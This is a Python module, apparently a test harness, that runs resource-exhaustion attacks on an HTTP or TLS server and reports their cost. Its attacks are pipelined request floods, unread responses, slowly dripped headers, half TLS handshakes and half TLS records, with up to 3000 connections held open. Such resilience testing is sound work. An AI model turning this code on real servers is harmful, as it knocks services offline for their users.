"""One attacker on one core: python -m attacks.clients ATTACK ADDRESS SECONDS.

Opens connections, never closes one that lasts, reads nothing, and prints as JSON what that
took. ADDRESS is HOST:PORT, tls:HOST:PORT, or the path of a Unix socket.
"""

import itertools
import json
import resource
import socket
import ssl
import sys
import time
from collections import deque
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Final

HELD: Final = 3000
"""Connections that it holds at once: more than a process may have descriptors by default."""
SLOW: Final = 0.005
"""Seconds between connections that are to last, and not to be replaced by the next ones."""


def request(path: str, headers: bytes = b"") -> bytes:
    """Return one request."""
    return b"GET %b HTTP/1.1\r\nHost: x\r\n%b\r\n" % (path.encode(), headers)


def pipeline(path: str, size: int = 262144) -> bytes:
    """Return many requests, as costly to keep parsed as they can be made."""
    costly = request(path, b"a:\r\n" * 60)
    return costly * (size // len(costly))


def drip() -> bytes:
    """Return headers without an end, in characters that take four bytes each once decoded."""
    line = b"a: " + "\U0001f600".encode() + b"x" * 4000 + b"\r\n"
    return b"GET /x HTTP/1.1\r\n" + line * 7 + line[:4000]


def hello() -> bytes:
    """Return what a TLS client sends first."""
    outgoing = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    half = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="x")
    with suppress(ssl.SSLWantReadError):
        half.do_handshake()
    return outgoing.read()


ATTACKS: Final[dict[str, tuple[Callable[[], bytes], float]]] = {
    "connect, send nothing": (lambda: b"", 0),
    "pipeline /readyz": (lambda: pipeline("/readyz"), 0),
    "pipeline /x": (lambda: pipeline("/x"), 0),
    "pipeline /metrics": (lambda: pipeline("/metrics"), 0),
    "pipeline within the limits": (lambda: pipeline("/metrics", 2500), SLOW),
    "never read /readyz": (lambda: request("/readyz"), 0),
    "never read /status": (lambda: request("/status") * 8, SLOW),
    "never read /": (lambda: request("/") * 8, SLOW),
    "drip headers": (drip, SLOW),
    "half a TLS handshake": (hello, 0),
    "half a TLS record": (lambda: b"\x16\x03\x01\x40\x00" + b"x" * 8000, SLOW),
}
"""What each connection sends, and the seconds before the next one."""


def choose(name: str) -> tuple[Iterator[bytes], float]:
    """Return what the connections of an attack send, and the seconds between them."""
    if name == "mix":
        return itertools.cycle([make() for make, _ in ATTACKS.values()]), 0
    make, pause = ATTACKS[name]
    return itertools.repeat(make()), pause


def attack(name: str, address: str, seconds: float) -> dict[str, float]:
    """Attack for so long; return what it took."""
    payloads, pause = choose(name)
    held: deque[socket.socket] = deque()
    opened = sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(pause)
        with suppress(OSError):
            held.append(connect(address))
            opened += 1
            sent += held[-1].send(next(payloads))
        if len(held) > HELD:
            held.popleft().close()
        # Something for one that is held, so that it is not idle.
        with suppress(OSError, IndexError):
            sent += held[-1 - opened * 7 % 100].send(b"a")
    return {"connections": opened, "bytes": sent, "cpu": time.process_time()}


def connect(address: str) -> socket.socket:
    """Open a connection, without waiting where none is needed. Raises OSError."""
    if address.startswith("tls:"):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        host, _, port = address.removeprefix("tls:").rpartition(":")
        plain = socket.create_connection((host, int(port)), 1)
        client: socket.socket = context.wrap_socket(plain)
        client.setblocking(False)
        return client
    host, _, port = address.rpartition(":")
    client = socket.socket(socket.AF_INET if host else socket.AF_UNIX)
    client.setblocking(False)
    with suppress(BlockingIOError):
        client.connect((host, int(port)) if host else address)
    return client


def main(name: str, address: str, seconds: str) -> None:
    """Attack once, and print what it took."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, HELD + 100), hard))
    print(json.dumps(attack(name, address, float(seconds))))


if __name__ == "__main__":
    main(*sys.argv[1:])
